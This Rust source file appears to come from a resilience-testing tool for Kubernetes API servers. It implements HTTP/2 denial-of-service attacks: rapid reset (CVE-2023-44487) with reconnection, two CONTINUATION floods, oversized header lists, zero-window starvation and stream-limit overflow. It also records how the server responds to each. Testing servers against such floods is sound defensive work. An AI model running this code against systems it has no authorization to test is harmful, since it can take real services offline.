//! HTTP/2 abuse over raw frames: rapid reset (CVE-2023-44487), CONTINUATION floods
//! (CVE-2024-27316 class), header lists past the limit, windows that never open, and
//! more concurrent streams than the server allows.

use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::Duration;

use super::frames::{self, Raw, CANCEL, CONTINUATION, HEADERS, INITIAL_WINDOW_SIZE};
use super::{millis, Ctl, Facts, Size, Target, PROBE_PATH};

/// The largest frame payload every server accepts before SETTINGS says more.
const FRAME: usize = 16 * 1024;

/// Facts of how the server treated one raw connection, each key prefixed.
fn seen_facts(facts: &mut Facts, prefix: &str, seen: &frames::Seen) {
    let mut put = |k: &str, v: u64| {
        *facts.entry(format!("{prefix}{k}")).or_default() += v;
    };
    put("responses", seen.responses.load(Ordering::Relaxed));
    put("responses_200", seen.ok.load(Ordering::Relaxed));
    put("data_bytes", seen.data_bytes.load(Ordering::Relaxed));
    if let Ok(resets) = seen.resets.lock() {
        for (code, n) in resets.iter() {
            put(&format!("rst_code_{code}"), *n);
        }
    }
    let goaway = seen.goaway.load(Ordering::Relaxed);
    if goaway > 0 {
        put(&format!("goaway_code_{}", goaway - 1), 1);
    }
    put("closed", u64::from(seen.closed.load(Ordering::Relaxed)));
}

/// Rapid reset: HEADERS for a GET and RST_STREAM(CANCEL) of it right after, in batches
/// of 100 pairs, until `size.count` streams or the scenario stops; a connection the
/// server sends GOAWAY on or closes is replaced by a new one, as an attacker would.
pub async fn rapid_reset(target: Arc<Target>, size: Size, mut ctl: Ctl) -> (String, Facts) {
    let block = frames::request_block("GET", PROBE_PATH, &[]);
    let mut facts = Facts::new();
    let (mut sent, mut conns) = (0u64, 0u64);
    ctl.ready();
    'outer: while sent < size.count as u64 && !ctl.stopping() {
        let Ok(raw) = Raw::open(&target, &[]).await else {
            *facts.entry("connect_failed".to_owned()).or_default() += 1;
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        conns += 1;
        let mut stream = 1u32;
        while !raw.seen.gone() {
            if sent >= size.count as u64 || ctl.stopping() {
                seen_facts(&mut facts, "", &raw.seen);
                break 'outer;
            }
            let mut batch = Vec::with_capacity(100 * (block.len() + 30));
            for _ in 0..100 {
                frames::headers(&mut batch, stream, &block, true);
                frames::rst_stream(&mut batch, stream, CANCEL);
                stream += 2;
            }
            if raw.send(&batch).await.is_err() {
                break;
            }
            sent += 100;
            tokio::task::yield_now().await;
        }
        // Let the reader see the GOAWAY that ended this connection.
        tokio::time::sleep(Duration::from_millis(20)).await;
        seen_facts(&mut facts, "", &raw.seen);
    }
    facts.insert("streams_sent".to_owned(), sent);
    facts.insert("connections".to_owned(), conns);
    facts.insert("took_ms".to_owned(), millis(ctl.started.elapsed()));
    ctl.stopped().await;
    let what = format!(
        "{sent} streams opened (GET) and reset (CANCEL) at once, batches of 100, over {conns} \
         connection(s)"
    );
    (what, facts)
}

/// CONTINUATION floods on two connections at once: one whose header block grows without
/// end (CONTINUATION frames of 16 KiB of header fields, up to `size.count` MiB), one of
/// empty CONTINUATION frames until the scenario stops (up to 1000 × `size.count` frames).
pub async fn continuation_flood(target: Arc<Target>, size: Size, mut ctl: Ctl) -> (String, Facts) {
    let mut facts = Facts::new();
    let (Ok(growing), Ok(empty)) = (Raw::open(&target, &[]).await, Raw::open(&target, &[]).await)
    else {
        facts.insert("connect_failed".to_owned(), 1);
        return ("(could not connect)".to_owned(), facts);
    };
    ctl.ready();
    let block = frames::request_block("GET", PROBE_PATH, &[]);
    let mut field = Vec::new();
    frames::literal(&mut field, b"x-flood", &vec![b'a'; FRAME - 16]);

    let grow = {
        let stop = ctl.signal();
        let block = block.clone();
        async move {
            let mut out = Vec::new();
            frame_no_end(&mut out, HEADERS, 1, &block);
            let mut sent = 0u64;
            let cap = size.count as u64 * 1024 * 1024;
            while sent < cap && !growing.seen.gone() && !stop.now() {
                let mut burst = std::mem::take(&mut out);
                for _ in 0..16 {
                    frames::frame(&mut burst, CONTINUATION, 0, 1, &field);
                }
                if growing.send(&burst).await.is_err() {
                    break;
                }
                sent += burst.len() as u64;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
            (sent, growing)
        }
    };
    let flat = {
        let stop = ctl.signal();
        let block = block.clone();
        async move {
            let mut out = Vec::new();
            frame_no_end(&mut out, HEADERS, 1, &block);
            let mut frames_sent = 0u64;
            let cap = size.count as u64 * 1000;
            while frames_sent < cap && !empty.seen.gone() && !stop.now() {
                let mut burst = std::mem::take(&mut out);
                for _ in 0..1000 {
                    frames::frame(&mut burst, CONTINUATION, 0, 1, &[]);
                }
                if empty.send(&burst).await.is_err() {
                    break;
                }
                frames_sent += 1000;
                tokio::task::yield_now().await;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
            (frames_sent, empty)
        }
    };
    let ((grown, growing), (flat_frames, empty)) = tokio::join!(grow, flat);
    facts.insert("growing_bytes_sent".to_owned(), grown);
    seen_facts(&mut facts, "growing_", &growing.seen);
    facts.insert("empty_frames_sent".to_owned(), flat_frames);
    seen_facts(&mut facts, "empty_", &empty.seen);
    ctl.stopped().await;
    let what = format!(
        "HEADERS without END_HEADERS, then {} MiB of 16 KiB CONTINUATION frames on one \
         connection and {flat_frames} empty CONTINUATION frames on another",
        grown / (1024 * 1024)
    );
    (what, facts)
}

/// A HEADERS or CONTINUATION frame without END_HEADERS (more of the block follows).
fn frame_no_end(out: &mut Vec<u8>, kind: u8, stream: u32, payload: &[u8]) {
    frames::frame(out, kind, 0, stream, payload);
}

/// Header lists past the limit: `size.count` connections each send one GET whose header
/// list is 2 MiB (64 fields of 32 KiB, in 16 KiB frames, properly ended), twice the
/// 1 MiB kube-apiserver allows; then a GET with a 64 KiB list on the same connection.
pub async fn huge_headers(target: Arc<Target>, size: Size, mut ctl: Ctl) -> (String, Facts) {
    let mut facts = Facts::new();
    let mut raws = Vec::new();
    for _ in 0..size.count {
        if let Ok(raw) = Raw::open(&target, &[]).await {
            raws.push(raw);
        }
    }
    ctl.ready();
    let value = vec![b'v'; 32 * 1024];
    let fields: Vec<(Vec<u8>, &[u8])> = (0..64)
        .map(|i| (format!("x-huge-{i}").into_bytes(), &value[..]))
        .collect();
    let extra: Vec<(&[u8], &[u8])> = fields.iter().map(|(n, v)| (&n[..], *v)).collect();
    let huge = frames::request_block("GET", PROBE_PATH, &extra);
    let small = frames::request_block("GET", PROBE_PATH, &extra[..2]);
    let mut out = Vec::new();
    let chunks: Vec<&[u8]> = huge.chunks(FRAME).collect();
    for (i, chunk) in chunks.iter().enumerate() {
        let kind = if i == 0 { HEADERS } else { CONTINUATION };
        let last = i + 1 == chunks.len();
        let flags = if i == 0 { frames::END_STREAM } else { 0 }
            | if last { frames::END_HEADERS } else { 0 };
        frames::frame(&mut out, kind, flags, 1, chunk);
    }
    frames::headers(&mut out, 3, &small, true);
    for raw in &raws {
        let _ = raw.send(&out).await;
    }
    ctl.stopped().await;
    for raw in &raws {
        seen_facts(&mut facts, "", &raw.seen);
    }
    facts.insert("connections".to_owned(), raws.len() as u64);
    let what = format!(
        "{} connections, each a GET with a {} KiB header list (64 fields of 32 KiB) and then \
         one with 64 KiB",
        raws.len(),
        huge.len() / 1024
    );
    (what, facts)
}

/// Window starvation: connections whose SETTINGS set every stream window to 0 and that
/// never send WINDOW_UPDATE open `size.count` GETs of the OpenAPI document in all (90 per
/// connection): the server has megabytes to send on each and may send none.
pub async fn window_starvation(target: Arc<Target>, size: Size, mut ctl: Ctl) -> (String, Facts) {
    let mut facts = Facts::new();
    // Built once and cached: fetched first, so that the starved streams measure
    // starvation, not each of them building the document at once.
    if let Ok(c) = target.client().await {
        let _ = c.get(super::slow::LARGE).await;
    }
    let block = frames::request_block(
        "GET",
        super::slow::LARGE,
        &[(b"accept", b"application/json")],
    );
    let mut raws = Vec::new();
    let mut left = size.count;
    while left > 0 {
        let n = left.min(90);
        left -= n;
        let Ok(raw) = Raw::open(&target, &[(INITIAL_WINDOW_SIZE, 0)]).await else {
            *facts.entry("connect_failed".to_owned()).or_default() += 1;
            continue;
        };
        let mut out = Vec::new();
        for i in 0..n as u32 {
            frames::headers(&mut out, 1 + 2 * i, &block, true);
        }
        let _ = raw.send(&out).await;
        raws.push(raw);
    }
    ctl.ready();
    ctl.stopped().await;
    for raw in &raws {
        seen_facts(&mut facts, "", &raw.seen);
    }
    facts.insert("connections".to_owned(), raws.len() as u64);
    facts.insert("streams".to_owned(), size.count as u64);
    let what = format!(
        "{} GETs of {} on {} connections with every stream window 0, never opened",
        size.count,
        super::slow::LARGE,
        raws.len()
    );
    (what, facts)
}

/// More streams than allowed: one connection opens `size.count` watches of ConfigMaps at
/// once (each stays open), past `--http2-max-streams-per-connection`.
pub async fn too_many_streams(target: Arc<Target>, size: Size, mut ctl: Ctl) -> (String, Facts) {
    let mut facts = Facts::new();
    let Ok(raw) = Raw::open(&target, &[]).await else {
        facts.insert("connect_failed".to_owned(), 1);
        return ("(could not connect)".to_owned(), facts);
    };
    let block = frames::request_block("GET", "/api/v1/namespaces/default/configmaps?watch=1", &[]);
    let mut out = Vec::new();
    for i in 0..size.count as u32 {
        frames::headers(&mut out, 1 + 2 * i, &block, true);
    }
    let _ = raw.send(&out).await;
    // Open the connection window wide so that no watch waits on it.
    let mut wu = Vec::new();
    frames::window_update(&mut wu, 0, 1 << 30);
    let _ = raw.send(&wu).await;
    ctl.ready();
    ctl.stopped().await;
    seen_facts(&mut facts, "", &raw.seen);
    facts.insert("streams_opened".to_owned(), size.count as u64);
    let what = format!(
        "{} watch streams opened at once on one connection",
        size.count
    );
    (what, facts)
}
